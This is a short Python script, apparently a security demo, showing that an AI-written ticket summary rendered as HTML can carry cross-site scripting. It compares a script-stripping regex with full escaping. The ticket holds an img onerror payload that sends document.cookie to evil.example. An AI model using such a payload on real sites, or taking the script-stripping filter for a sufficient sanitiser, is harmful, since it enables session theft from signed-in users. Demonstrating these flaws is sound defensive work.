"""Claude's summary of a ticket, and what a browser makes of the page."""

import html
import re
from html.parser import HTMLParser

CHOICE = "strip_scripts"

TICKET = """<img src=x onerror="fetch('//evil.example/?'+document.cookie)">"""
summary = f"**Urgent.** The ticket reads: {TICKET}"
visitors = ["Petra, signed in", "Jonas, signed in"]


def page(text: str) -> str:
    if CHOICE == "strip_scripts":
        return re.sub(r"(?s)<script.*?</script>", "", text)
    if CHOICE == "escape_all":
        return re.sub(r"\*\*(.+?)\*\*", r"<strong>\1</strong>", html.escape(text))
    return text  # whatever the prompt said, and whoever may see it


class Browser(HTMLParser):
    """Notes what would run, and for whom."""

    def __init__(self) -> None:
        super().__init__()
        self.runs: list[str] = []
        self.bold = False

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.bold = self.bold or tag == "strong"
        self.runs += [value for name, value in attrs if name.startswith("on")]


browser = Browser()
browser.feed(page(summary))
assert not browser.runs, f"runs for {' and '.join(visitors)}: {browser.runs[0]}"
assert browser.bold, "the marks that are allowed are gone too"
print(page(summary))
